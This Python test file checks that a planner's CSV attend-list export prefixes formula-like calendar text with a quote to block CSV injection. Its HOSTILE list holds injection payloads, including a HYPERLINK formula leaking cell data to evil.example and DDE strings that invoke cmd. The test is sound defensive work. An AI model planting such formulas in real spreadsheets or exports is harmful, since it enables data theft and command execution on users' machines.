"""The CSV attend-list never hands a spreadsheet a formula: text from a calendar (an
organiser's title, venue, address, link, category) that starts with =, +, -, @, a tab or
a carriage return is prefixed with a single quote (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from planner.core.calendars.attend_list import neutralised, to_csv
from planner.core.demo import DEMO_WEEK, demo_settings, load_demo
from planner.core.planning.plan import plan_week

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["PMI mixer", "", "1 Yonge St", "'quoted", "Q&A = fun"])
def test_ordinary_text_is_unchanged(text):
    assert neutralised(text) == text


def test_the_exported_csv_neutralises_every_text_column():
    settings = demo_settings()
    week = load_demo(DEMO_WEEK, settings)
    hostile = [
        replace(
            event,
            summary=HOSTILE[0],
            categories=("@evil",),
            url="=cmd",
            place=replace(event.place, name="+venue", address="-address"),
        )
        for event in week.candidates
    ]
    plan = plan_week(week.commitments, hostile, settings, DEMO_WEEK)
    assert plan.chosen
    rows = list(csv.DictReader(io.StringIO(to_csv(plan))))
    for row in rows:
        assert row["title"] == "'" + HOSTILE[0]
        assert row["category"] == "'@evil"
        assert row["url"] == "'=cmd"
        assert row["venue"] in ("'+venue", "online")  # an online event's venue is "online"
        assert row["address"] == "'-address"
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
